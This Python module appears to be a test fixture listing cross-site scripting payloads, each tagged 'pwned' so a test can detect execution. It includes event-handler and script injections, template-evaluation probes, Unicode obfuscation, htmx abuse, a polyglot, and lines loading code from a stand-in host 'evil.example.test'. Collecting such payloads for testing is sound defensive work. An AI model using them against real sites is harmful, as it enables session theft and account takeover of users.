"""What people write into fields so that it runs in somebody else's browser. Each would show itself as one of three things: a
dialog or `window.__xss`, an element with the attribute `pwned`, the product of a template's multiplication.
"""

from __future__ import annotations

MARK = "pwned"
PRODUCT = "49000021"  # 7 * 7000003: nobody writes it, only a template that is evaluated
ELSEWHERE = "evil.example.test"

XSS = (
    "<script pwned>alert(1)</script>",
    f"<script pwned src=//{ELSEWHERE}/x.js></script>",
    "<img pwned src=x onerror=alert(1)>",
    "<svg pwned onload=alert(1)><animate pwned onbegin=alert(1) attributeName=x dur=1s></svg>",
    "javascript:alert(1)//",
    "data:text/html,<script pwned>alert(1)</script>",
    '" pwned onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
    "' pwned onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "pwned onpointerenter=alert(1) style=animation-name:x onanimationstart=alert(1) ",
    "{{7*7000003}} ${7*7000003} #{7*7000003} <%= 7*7000003 %> {% print(7*7000003) %}",
    "--><img pwned src=x onerror=alert(1)><!--",
    "</textarea></option></select></dialog><img pwned src=x onerror=alert(1)>",
    "</title></style></noscript></script><script pwned>alert(1)</script>",
    "\u202e>tpircs/<)1(trela>tpircs<\u202c \u2066<b pwned>\u2069 \u2028<i pwned>\u2029",
    "＜script pwned＞alert(1)＜/script＞ \ufeff<\u200bimg pwned src=x onerror=alert(1)>",
    "<b pwned hx-get=/sign-out hx-trigger=load hx-on::load=alert(1) hx-on:click=alert(1)>",
    "<b pwned data-hx-post=/whatsapp_logs/refresh_all data-hx-trigger=load>",
    "<!--><style pwned>@import '//evil.example.test/x.css';</style><link pwned rel=stylesheet href=//evil.example.test/y.css>",
    "<iframe pwned srcdoc='<script>parent.alert(1)</script>'></iframe><object pwned data=javascript:alert(1)></object>",
    "<base pwned href=//evil.example.test/><meta pwned http-equiv=refresh content='0;url=//evil.example.test/'>",
    "*<b pwned onclick=alert(1)>* _<i pwned>_ ~<s pwned>~ ```<code pwned>```",
    "&lt;img pwned src=x onerror=alert(1)&gt; &#60;img pwned src=x&#62; \\u003cimg pwned src=x onerror=alert(1)\\u003e",
    "</div></td></tr></table></form><form pwned action=//evil.example.test/><button pwned formaction=javascript:alert(1)>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    "\\x3csVg pwned/<sVg pwned/oNloAd=alert(1)//>\\x3e",
)
